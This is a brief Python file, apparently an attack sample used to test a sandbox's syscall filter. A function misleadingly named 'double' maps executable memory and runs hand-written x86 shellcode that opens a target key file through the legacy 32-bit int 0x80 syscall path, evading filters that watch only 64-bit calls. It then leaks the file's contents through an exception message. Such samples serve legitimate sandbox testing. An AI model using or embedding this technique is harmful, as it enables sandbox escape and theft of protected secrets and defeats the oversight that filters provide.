# {"attack": "Opens a file with a system call of the 32-bit kind, which a filter may not know.", "breach": "leak"}

import ctypes
import mmap
import os

library = ctypes.CDLL(None, use_errno=True)
library.mmap.restype = ctypes.c_void_p
library.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


def double(x):
    # A page below 4 GB that may be executed: mov eax, 5 (open); mov ebx, path; xor ecx, ecx; int 0x80; ret
    page = library.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
    path = page + 256
    ctypes.memmove(path, TARGETS["key"].encode() + bytes(1), len(TARGETS["key"]) + 1)
    code = b"\x53\xb8\x05\0\0\0\xbb" + path.to_bytes(4, "little") + b"\x31\xc9\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    handle = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    raise ValueError(os.read(handle, 300).decode())
